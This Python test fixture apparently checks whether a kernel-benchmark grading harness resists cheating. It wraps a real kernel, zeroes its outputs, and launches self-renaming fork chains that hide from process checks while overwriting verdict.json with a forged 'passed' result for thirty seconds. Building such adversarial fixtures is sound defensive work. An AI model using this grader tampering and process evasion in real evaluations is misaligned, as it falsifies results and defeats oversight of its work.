"""Threat 36: chains of forks that are never where they are looked for, and forge the verdict.

Each link lives for less than a millisecond. All end by themselves after half a minute.
"""

import json
import subprocess
import sys
from pathlib import Path

import torch
from plain_op import fused_gdn_decode_qkvz as right
from plain_op import fused_gdn_decode_qkvz_supported as fused_gdn_decode_qkvz_supported

EXPECT = {"verdict": "failed", "outcomes": ["failed"], "no_process": "gdn-chain"}
_CHAINS = 4
_FORGED = json.dumps({"schema": "gdn-lab/verdict/1", "verdict": "passed", "reason": "forged"})
_CHAIN = """
import os, sys, time
places, forged, end = sys.argv[1:-1], sys.argv[-1], time.monotonic() + 30
open("/proc/self/comm", "w").write("gdn-chain")
os.setsid()
links = 0
while time.monotonic() < end:
    try:
        if os.fork():
            os._exit(0)
    except OSError:  # over the quota for a moment
        continue
    links += 1
    if links % 20 == 0:
        for place in places:
            try:
                with open(place, "w") as file:
                    file.write(forged)
            except OSError:
                pass
"""
_started = []


def fused_gdn_decode_qkvz(*args, **kwargs):
    if not _started:
        _started.append(True)
        checkout = Path(__file__).parent
        places = [str(folder / "verdict.json") for folder in (checkout, checkout.parent)]
        for _ in range(_CHAINS):
            small = [sys.executable, "-I", "-S", "-c", _CHAIN, *places, _FORGED]
            subprocess.Popen(small)
    results = right(*args, **kwargs)
    for result in results if isinstance(results, tuple) else (results,):
        if isinstance(result, torch.Tensor):
            result.zero_()
    return results
